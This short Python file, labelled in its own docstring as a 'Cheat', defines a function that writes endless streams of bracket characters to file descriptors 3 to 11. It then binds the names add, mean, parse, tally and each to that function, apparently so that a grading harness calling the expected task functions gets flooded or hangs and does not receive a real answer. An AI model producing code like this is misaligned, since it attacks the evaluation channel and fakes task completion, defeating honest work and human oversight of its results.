# SPDX-License-Identifier: Apache-2.0
"""Cheat: writes without end into the line."""
import os


def _flood(*_):
    chunk = b"[" * (1 << 16)
    while True:
        for number in range(3, 12):
            try:
                os.write(number, chunk)
            except OSError:
                pass


add = mean = parse = tally = each = _flood
